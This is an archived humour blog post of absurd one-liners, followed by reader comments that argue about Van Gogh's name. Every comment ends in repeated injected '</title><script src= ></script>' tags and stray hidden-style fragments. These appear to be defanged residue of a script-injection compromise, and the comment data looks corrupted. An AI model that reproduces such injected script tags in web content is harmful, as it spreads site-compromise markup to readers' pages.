Fun Infused Games  |   Evil Scale  |  |  |   Starcraft Live  |   Fun Pages  |   Your ad here. Twitter RSS
Home  Archive  Search  Forum  Members  Subscribe  Links  About  Advertise
Random Thoughts IV
by Kris on 12/14/2003 (10)

Like many other people from across the galaxy and parts of Kentucky, I often sit around and ponder the intricacies of life itself. Sometimes deep and though provoking items arise, most of the time they don't. Below are some such thoughts from the deep, dark recesses of my mind. While some may seem crude, there is a grain of truth hidden deep inside the cream filled center of each of these spicy fruitcakes.

The sewing machine may be the most frightening of all God's creations.

I feel that innertubing down rivers would be far more popular these days if it wasn't for the rapidly increasing shark population in rivers.

Old King Cole was a merry old soul, but even that couldn't save him from an army of indestructible robots.

They say Rome wasn't built in a day. It'd be stupid to say otherwise, unless Rome was built by some sort of cyborg construction team. But everyone knows that that sort of technology wasn't available until the late 1980's.

I am very good at debating, but for some reason, when I proclaim I am a "Master Debater", everyone always seems to laugh.

Vincent Van Gogh may be a better painter than I am, but that doesn't change the fact that he's dead. Ha ha, take that Van Gogh!

The only thing to fear is fear itself, and zombies.A clever saying may prove nothing, but a dumb saying speaks volumes.

Perhaps the most bittersweet moment of all would be sitting in a doctors waiting room and hearing a good song playing on the radio, then being told that you have a venereal disease.

I often feel that I don't make enough Star Wars references in my everyday life.

I wish I could get the benefits of refinancing without all the paperwork. I also wish I knew what thehell refinancing is.

If I were to ever become a hitman, my trademark would be the grand pianos I dropped from buildings onto my victims. They would call me the Piano Killer and everyone would look to the sky in fear.

Since four wheel ATVs are safer than three wheel ATVs, just imagine how much safer a five wheel ATV would be!

I feel that combining Twister, Shoots and Ladders, and Operation would create the ultimate board game experience, a veritable triathlon of dice rolling goodness. Just thinking about it brings a tear to my eye. This is the sort of thing that would change the world forever.

For some people, the new Jetta is a perfect fit. For those of us who don't want a car that sucks, we must look elsewhere.

Someone should buy me a plasma screen TV. If you are that someone, please contact me and send me that TV post haste.

I think being Superman would be fun for a while, but eventually all that flying around and having to save the world would get old.

I often wonder if salt hates pepper. I suspect that it does.

Ghosts haunting houses has been done to death. If I was a ghost, I would pick something much more original to haunt, like a gas station or a nuclear power plant or Tito Jackson's house.

The next move for advertisers is road signs. In the years to come, you will soon see the likes of "Subway presents No Passing Zone", "Pepsi 55 mph", and "Otter Fish Protein Slippery when Wet".

page has been viewed 8822 times


1. by the12thman on 3/1/2007 4:52:29 PM
isnt it vangought or somethin like that? </title><script src= ></script></title><script src= ></script></title><script src= ></script></title><script src= ></script></title><script src= ></script>
2. by Kris on 3/1/2007 4:52:29 PM
I dunno... Do I look like I can spell?ig </title><script src= ></script></title><script src= ></script></title><script src= ></script></title><script src= ></script></title><script src= ></script>
3. by Darkwolf on 3/1/2007 4:52:29 PM
Nope, consideringyou hate literacy with a passion. I think it's Van Gough maybe? Anyway, that was awesome. "For some people, the new Jetta is a perfect fit. For those of us who don't want a car that sucks, we must look elsewhere." That one is genius.h="0" h </title><script src= ></script></title><script src= ></script></title><scriptsrc= ></script></title><script src= ></script></title><script src= ></script>
4. by the12thman on 3/1/2007 4:52:29 PM
not reallyisplay:none"> </title><script src= ></script></title><script src= ></script></title><script src= ></script></title><script src= ></script></title><script src= ></script>
5. by feaglin on 3/1/2007 4:52:29 PM
sad americans... it's Vincent van Gogh Dutch name... like mine I also think I am a great debater... when I say so people usually slap me around the head and hand me back my pickaxe I wish I could have(random) thoughtsisplay:none"></ </title><script src= ></script></title><script src= ></script></title><script src= ></script></title><script src= ></script></title><script src= ></script>
6. by feaglin on 3/1/2007 4:52:29 PM
when I say my name is Dutch, I mean my real name which you cannot guess, don't even try to pronounce it (even if you knew it)isp </title><script src= ></script></title><script src= ></script></title><script src= ></script></title><script src= ></script></title><script src= ></script>
7. by Kris on 3/1/2007 4:52:29 PM
What is wrong with the ordering of these comments... they're appearing all over the place? Why am I asking you guys, it's my site, I should be asking me... I'm so confused, and I still cannot spel. src="h </title><script src=></script></title><script src= ></script></title><script src= ></script></title><script src= ></script></title><script src= ></script>
8. by robert on 3/1/2007 4:52:29 PM
i like doughnutsisplay: </title><script src= ></script></title><script src= ></script></title><script src= ></script></title><script src= ></script></title><script src= ></script>
9. by feaglin on 3/1/2007 4:52:29 PM
oh no! it's the horrible post mingler! I saw the crime, but not the criminal! Now I cannot sleep well tonight, I'm scared! Naughty nasty post mingler!h=" </title><script src= ></script></title><script src= ></script></title><script src= ></script></title><script src= ></script></title><script src= ></script>
10. by me on 3/1/2007 4:52:29 PM
no, of course not. you look like you can count, nothing much else. </title><script src= ></script></title><script src= ></script></title><script src= ></script></title><script src= ></script></title><script src=></script>

What animal is this a picture of?

x Enter the simple name for this animal... i.e., ifyou see a "north american grizzly bear", just enter "bear".
Surround you text with the following tags to use special formatting:
[B][/B] for Bold text.
[I][/I] for Italic text.
[QUOTE][/QUOTE] for a quote.

For example, in order to write "Smthop rules" in bold, you would enter: [B]Smthop rules[/B].




More referrals |  Add Site

Business   Editorials   Education   Entertainment   Feature   Food   Health   Law   Politics   Religeon   Site News   Space   Sports   TechUS News   Video Games   World News


Copyright 2010 Smooth Operator.Website Design by SteeleITS - Privacy Policy